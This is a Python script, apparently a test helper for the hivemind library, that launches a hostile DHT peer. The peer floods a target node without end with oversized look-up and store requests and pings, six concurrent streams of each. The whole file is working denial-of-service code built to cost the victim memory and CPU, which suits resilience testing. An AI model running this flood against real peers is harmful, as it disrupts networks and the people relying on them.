"""A hostile peer of the DHT, in a process of its own: ``dht_attacker.py ADDRESS``, until it is ended.

Prints a line when the first call has been answered.
"""

from __future__ import annotations

import asyncio
import contextlib
import sys
import time

from hivemind.p2p import P2P, P2PHandlerError, PeerID
from hivemind.proto import dht_pb2

AT_ONCE = 6


def make(kind: str) -> tuple[str, bytes]:
    """Returns an rpc and the bytes of a call, which are made once: the attack is to cost the victim."""
    if kind == "look-ups":
        return "rpc_find", dht_pb2.FindRequest(keys=[bytes(20)] * 100_000).SerializeToString()
    if kind == "records":
        rows = 3000
        columns = {"keys": [bytes(20)] * rows, "subkeys": [bytes(50)] * rows, "values": [bytes(1000)] * rows}
        times = {"in_cache": [False] * rows, "expiration_time": [time.time() + 60] * rows}
        return "rpc_store", dht_pb2.StoreRequest(**columns, **times).SerializeToString()
    return "rpc_ping", dht_pb2.PingRequest().SerializeToString()


async def main(address: str) -> None:
    """Sends calls without end."""
    p2p = await P2P.create(initial_peers=[address], dht_mode="client", no_listen=True)
    peer = PeerID.from_base58(address.rpartition("/")[2])
    is_said = False

    async def flood(rpc: str, call: bytes) -> None:
        nonlocal is_said
        while True:
            with contextlib.suppress(P2PHandlerError):
                await p2p._client.call_unary_handler(peer, f"DHTProtocol.{rpc}", call)
            if not is_said:
                sys.stdout.write("started\n")
                sys.stdout.flush()
                is_said = True

    calls = [make(kind) for kind in ("look-ups", "records", "pings")]
    await asyncio.gather(*(flood(*call) for call in calls for _ in range(AT_ONCE)))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
